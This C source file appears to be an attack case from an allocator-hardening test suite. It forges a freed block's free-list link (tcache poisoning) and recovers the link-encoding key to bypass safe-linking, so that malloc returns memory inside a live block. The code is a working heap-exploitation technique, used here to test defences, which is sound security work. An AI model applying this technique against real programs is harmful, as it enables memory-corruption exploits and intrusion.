/* Attack: free-list link forgery (tcache poisoning / safe-linking bypass).
 *
 * An attacker with a use-after-free can read and write the first word of a
 * freed block, where most allocators keep the free list's next link. Free
 * two blocks A then B of one size: the list is B -> A, so B's first word
 * holds A (possibly encoded). Assuming the usual linear encoding
 * `stored = next ^ pad(slot)` (plain pointers are the case pad = 0; glibc's
 * `next ^ (slot >> 12)` and a keyed `next ^ f(slot) ^ key` are others), the
 * pad of B is `stored ^ A`, whatever the key. The attacker then writes
 * `target ^ pad` into B, so that once B is handed out again the next malloc
 * returns `target`.
 *
 * Variants (the target):
 *   aligned     another live block of the same slab (a block boundary);
 *   misaligned  16 bytes into another live block of the same slab;
 *   cross-slab  a live 1024-byte block (another size class, so another
 *               slab, usually of the same segment).
 *
 * A link popped from the list is often checked to stay near its block, and
 * the target's own first word becomes the next link once the target is
 * handed out. So the attacker also identifies the encoding: A was freed
 * onto an empty list, so A's first word is the encoded null link, which
 * each known encoding predicts from the key recovered out of B. Under the
 * encoding that predicts it, the attacker writes the encoded null link into
 * the target's first word (the target is the attacker's own live block), so
 * the list ends cleanly after it.
 *
 * SUCCEEDED only if malloc really returns memory inside a live block (the
 * live block's contents are then seen to change through the new pointer).
 */
#include "attack.h"

#define N 64
#define SIZE 64
#define TRIES 5000

enum target_kind { ALIGNED, MISALIGNED, CROSS_SLAB };
static enum target_kind kind;

static char *blk[N];
static char *other;
static char *fill[TRIES];

/* Is `p` (SIZE bytes) inside a block that is still live? */
static char *live_block_hit(const char *p, const char *a, const char *b) {
    for (int i = 0; i < N; i++)
        if (blk[i] != a && blk[i] != b && overlaps(p, SIZE, blk[i], SIZE)) return blk[i];
    if (other && overlaps(p, SIZE, other, 1024)) return other;
    return NULL;
}

/* Writes through `p` and checks that the live block `victim` changed. */
static void confirm(char *p, char *victim, size_t victim_size) {
    memset(p, 'Z', SIZE);
    size_t changed = count_byte((unsigned char *)victim, victim_size, 'Z');
    if (changed > 0)
        succeeded("malloc returned %p, inside the live block %p (%zu of its bytes overwritten "
                  "through the new pointer)",
                  (void *)p, (void *)victim, changed);
    defeated("malloc returned %p, but writing it did not change the live block %p", (void *)p,
             (void *)victim);
}

/* Mallocs up to TRIES blocks (kept in `fill`), ending the program once a
 * live block is handed out or once the corrupted block `b` and the block
 * after it have come back. */
static void hunt(char *a, char *b) {
    for (int i = 0; i < TRIES; i++) {
        char *p = fill[i] = malloc(opaque(SIZE));
        if (p == NULL) defeated("malloc failed after the forgery");
        char *hit = live_block_hit(p, a, b);
        if (hit) confirm(p, hit, hit == other ? 1024 : SIZE);
        if (p == b) {
            /* The corrupted block is out again: the next block handed out
             * is the one its link named. Stop after it either way, since a
             * wrongly decoded link may point anywhere. */
            char *q = malloc(opaque(SIZE));
            if (q == NULL) defeated("malloc failed right after the corrupted block");
            hit = live_block_hit(q, a, b);
            if (hit) confirm(q, hit, hit == other ? 1024 : SIZE);
            defeated("the forged link was not followed: after the corrupted block %p came %p",
                     (void *)b, (void *)q);
        }
    }
}

/* The known link encodings: `stored = next ^ pad(slot)`, with the pad a
 * function of the slot and a secret key. */
struct encoding {
    const char *name;
    uintptr_t (*tweak)(uintptr_t slot); /* pad = tweak(slot) ^ key */
    int keyed;
};

static uintptr_t tweak_zero(uintptr_t slot) { (void)slot; return 0; }
static uintptr_t tweak_shift12(uintptr_t slot) { return slot >> 12; }
static uintptr_t tweak_rotl23(uintptr_t slot) { return (slot << 23) | (slot >> 41); }
static uintptr_t tweak_golden(uintptr_t slot) { return slot * (uintptr_t)0x9e3779b97f4a7c15ull; }

static const struct encoding encodings[] = {
    {"plain pointers", tweak_zero, 0},
    {"next ^ (slot >> 12)", tweak_shift12, 0},
    {"next ^ key", tweak_zero, 1},
    {"next ^ rotl(slot, 23) ^ key", tweak_rotl23, 1},
    {"next ^ slot * golden ^ key", tweak_golden, 1},
};

/* Finds an encoding under which B's link names A (key recovered from it)
 * and A's link is the null link; returns it with its key, or NULL. */
static const struct encoding *identify(uintptr_t a, uintptr_t stored_a, uintptr_t b,
                                       uintptr_t stored_b, uintptr_t *key) {
    for (size_t i = 0; i < sizeof encodings / sizeof encodings[0]; i++) {
        const struct encoding *e = &encodings[i];
        uintptr_t k = e->keyed ? stored_b ^ a ^ e->tweak(b) : 0;
        if ((stored_b ^ e->tweak(b) ^ k) == a && (e->tweak(a) ^ k) == stored_a) {
            *key = k;
            return e;
        }
    }
    return NULL;
}

static void *attack(void *arg) {
    (void)arg;
    for (int i = 0; i < N; i++) {
        blk[i] = malloc(opaque(SIZE));
        CHECK(blk[i] != NULL);
        memset(blk[i], 'L', SIZE);
    }
    if (kind == CROSS_SLAB) {
        other = malloc(opaque(1024));
        CHECK(other != NULL);
        memset(other, 'O', 1024);
    }
    char *a = blk[10], *b = blk[20];
    free(a);
    free(b);
    uintptr_t stored_a = *(volatile uintptr_t *)a;
    uintptr_t stored = *(volatile uintptr_t *)b;
    uintptr_t pad = stored ^ (uintptr_t)a;
    char *target = kind == ALIGNED ? blk[30] : kind == MISALIGNED ? blk[30] + 16 : other;
    note("freed %p then %p; link words %#lx, %#lx; pad of %p assuming linear encoding: %#lx",
         (void *)a, (void *)b, (unsigned long)stored_a, (unsigned long)stored, (void *)b,
         (unsigned long)pad);
    uintptr_t key = 0;
    const struct encoding *enc = identify((uintptr_t)a, stored_a, (uintptr_t)b, stored, &key);
    if (enc) {
        uintptr_t end = enc->tweak((uintptr_t)target) ^ key;
        note("encoding identified: %s (key %#lx); null link at the target: %#lx", enc->name,
             (unsigned long)key, (unsigned long)end);
        memcpy(target, &end, sizeof end);
    } else {
        note("no known encoding explains both links; the target's first word is left alone");
    }
    note("forging the link of %p to %p", (void *)b, (void *)target);
    *(volatile uintptr_t *)b = (uintptr_t)target ^ pad;
    crash_means_success("on the forged link", 3);

    hunt(a, b);
    /* Not out again yet: it may wait in a quarantine that only frees push
     * forward. Free everything just allocated, then try again. */
    note("the corrupted block was not handed out in %d mallocs; freeing them", TRIES);
    for (int i = 0; i < TRIES; i++) free(fill[i]);
    hunt(a, b);
    defeated("the corrupted block was not handed out again in %d mallocs, %d frees and %d more "
             "mallocs",
             TRIES, TRIES, TRIES);
}

static void run_aligned(void) { kind = ALIGNED; on_fresh_thread(attack, NULL); }
static void run_misaligned(void) { kind = MISALIGNED; on_fresh_thread(attack, NULL); }
static void run_cross_slab(void) { kind = CROSS_SLAB; on_fresh_thread(attack, NULL); }

static const struct variant variants[] = {
    {"aligned", run_aligned},
    {"misaligned", run_misaligned},
    {"cross-slab", run_cross_slab},
};
RUN_VARIANTS(variants)
